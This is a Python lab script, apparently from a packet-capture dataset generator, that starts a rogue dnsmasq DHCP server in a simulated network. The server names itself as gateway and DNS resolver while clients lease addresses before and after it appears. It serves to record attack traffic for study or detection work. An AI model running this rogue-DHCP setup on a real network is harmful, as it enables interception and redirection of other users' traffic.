"""A rogue DHCP server: a second dnsmasq responds in addition to the router and names itself as gateway and DNS
resolver. Needs dnsmasq-base, isc-dhcp-client.

Run it as ``python -m pcaps.lab.attacks.dhcp``.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Host, Lab, record

ROGUE = "10.20.10.66"


def _server(lab: Lab, host: Host, low: int, high: int) -> None:
    """dnsmasq without DNS; leases are in the folder of the lab."""
    leases = lab.folder / f"{host.name}.leases"
    options = (
        f"--dhcp-range=10.20.10.{low},10.20.10.{high},1h",
        "--dhcp-authoritative",
        f"--dhcp-leasefile={leases}",
        "--dhcp-no-override",
    )
    about = (
        f"--dhcp-option=3,{host.ip}",
        f"--dhcp-option=6,{host.ip}",
        "--user=root",
        "--conf-file=/dev/null",
        "--no-ping",
        "--no-hosts",
    )
    lab.start(
        host,
        "dnsmasq",
        "-k",
        "--port=0",
        "--interface=eth0",
        "--bind-interfaces",
        *options,
        *about,
        port=67,
        proto="udp",
    )


def rogue(lab: Lab) -> Iterator[None]:
    """Two clients lease addresses before the rogue server starts, two afterwards."""
    _server(lab, lab.router, 100, 150)
    clients = [lab.host(f"new-{number}", "", address=False) for number in range(4)]
    attacker = lab.host("attacker", ROGUE)
    yield
    for number, client in enumerate(clients):
        if number == len(clients) // 2:
            _server(lab, attacker, 160, 190)
        lab.start(
            client,
            "dhclient",
            "-d",
            "-sf",
            "/bin/true",
            "-lf",
            f"{lab.folder}/{client.name}.lease",
            "-pf",
            f"{lab.folder}/{client.name}.pid",
            "eth0",
        )
        lab.run(client, "sleep", "3")


if __name__ == "__main__":
    record(Path(__file__).parent, dhcp_rogue=rogue)
